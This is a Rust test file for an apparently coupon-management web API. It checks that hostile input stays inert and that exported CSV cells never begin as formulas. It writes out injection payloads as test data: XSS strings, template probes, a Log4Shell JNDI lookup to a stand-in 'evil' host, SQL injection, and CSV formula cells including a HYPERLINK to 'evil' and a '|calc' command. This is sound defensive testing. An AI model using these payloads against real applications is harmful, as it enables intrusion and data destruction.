//! Text that is meant for another reader: a browser, a spreadsheet, a database.

use serde_json::{Value, json};

use crate::{
    both,
    support::brand::{Brand, ten_off},
};

/// Short enough for every name.
const MARKUP: [&str; 6] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=a()>",
    "{{7*7}}${7*7}#{7*7}",
    "${jndi:ldap://evil/a}",
    "'; DROP TABLE coupon; --",
    "</title><svg onload=a()>",
];

both! {
    async fn markup_stays_text_and_is_only_ever_served_as_json(app) {
        let brand = Brand::of(app).await;
        let shopper = brand.shopper().await;
        let customer = format!("/admin/v1/customers/{}", shopper.id);
        for markup in MARKUP {
            let draft = json!({ "site_id": brand.head, "name": markup, "rules": ten_off(5) });
            let template = brand.owner.post("/admin/v1/coupon-templates", &draft).await.created();
            assert_eq!(template["name"], markup);
            let id = template["id"].as_str().unwrap();
            brand.publish(id).await;
            let note = json!({ "site_id": brand.head, "body": markup });
            brand.owner.post(&format!("{customer}/notes"), &note).await.created();
            let slogan = format!("/admin/v1/nodes/{}/settings/slogan", brand.head);
            brand.owner.put(&slogan, &json!({ "value": markup })).await.ok();

            let offer = format!("/app/v1/coupon-templates/{id}");
            for seen in [
                brand.owner.get("/admin/v1/coupon-templates").await,
                brand.owner.get(&format!("{customer}/notes")).await,
                shopper.client.get("/app/v1/coupon-templates").await,
                shopper.client.get(&offer).await,
            ] {
                assert_eq!((seen.status, seen.header("content-type")), (200, "application/json"), "{}", seen.asked);
                assert_eq!(seen.header("x-content-type-options"), "nosniff", "{}", seen.asked);
                assert!(seen.header("content-security-policy").contains("default-src 'none'"), "{}", seen.asked);
                assert!(holds(&seen.json(), markup), "{} has {markup:?}: {}", seen.asked, seen.text());
            }
        }
        for page in ["/check", "/docs/"] {
            let page = brand.stranger.get(page).await;
            assert!(page.header("content-type").starts_with("text/html"), "{}", page.asked);
            assert!(MARKUP.iter().all(|markup| !page.text().contains(markup)), "{}", page.asked);
        }
    }

    async fn a_search_takes_wildcards_by_the_letter(app) {
        let brand = Brand::of(app).await;
        for name in ["满100%返", "snake_case", "snakeXcase", "back\\slash", "plain"] {
            let draft = json!({ "site_id": brand.head, "name": name, "rules": ten_off(5) });
            brand.owner.post("/admin/v1/coupon-templates", &draft).await.created();
        }
        for (typed, expected) in [
            ("%25", vec!["满100%返"]),
            ("_", vec!["snake_case"]),
            ("e_c", vec!["snake_case"]),
            ("%25%25", vec![]),
            ("%5C", vec!["back\\slash"]),
            ("%5C%25", vec![]),
            ("SNAKE", vec!["snakeXcase", "snake_case"]),
            ("%27%20OR%201%3D1%20--", vec![]),
        ] {
            let found = brand.owner.get(&format!("/admin/v1/coupon-templates?q={typed}")).await.ok();
            let mut names: Vec<&str> = found["items"].as_array().unwrap().iter().filter_map(|it| it["name"].as_str()).collect();
            names.sort_unstable();
            assert_eq!(names, expected, "q={typed}");
        }
        let tail = brand.owner.get("/admin/v1/customers?phone_tail=%25%25%25%25").await;
        assert!(tail.status == 422 || tail.ok()["items"] == json!([]), "{}", tail.text());
        assert_eq!(brand.owner.get("/admin/v1/customers?tag=%25").await.ok()["items"], json!([]));
    }

    async fn no_cell_of_a_file_is_a_formula(app) {
        let brand = Brand::of(app).await;
        let template = brand.live(&brand.head, &ten_off(100)).await;
        let path = format!(
            "/admin/v1/code-batches/import?template_id={template}&site_id={}&name=%3D1%2B1", brand.head
        );
        let file = "code\n=HYPERLINK(\"http://evil\";\"x\")\n=1+1\n+1234567\n-1234567\n@SUM(A1)\n\t=1+1\n'=1+1\n|calc\nGOOD-2026-0001\n";
        let import = brand.owner.once(&brand.key()).raw("POST", &path, "text/csv", file).await.ok();
        assert_eq!(import["report"]["accepted"].as_u64().unwrap() + import["report"]["refused"].as_u64().unwrap(), 9, "{import}");
        let batch = import["batch_id"].as_str().unwrap();
        brand.codes(batch).await;
        let export = brand.owner.get(&format!("/admin/v1/code-batches/{batch}/codes")).await;
        assert!(export.text().contains("GOOD-2026-0001"), "{}", export.text());
        for cell in export.text().lines().flat_map(|line| line.split(',')) {
            let cell = cell.trim_start_matches('"');
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r', '|']), "{cell:?} in {}", export.text());
        }
        assert!(export.header("content-disposition").starts_with("attachment; filename=\""), "{:?}", export.headers);
        assert_eq!(export.header("x-content-type-options"), "nosniff");
    }
}

/// Whether that text stands somewhere in it, unchanged.
fn holds(value: &Value, text: &str) -> bool {
    match value {
        Value::String(found) => found == text,
        Value::Array(items) => items.iter().any(|item| holds(item, text)),
        Value::Object(members) => members.values().any(|member| holds(member, text)),
        _ => false,
    }
}
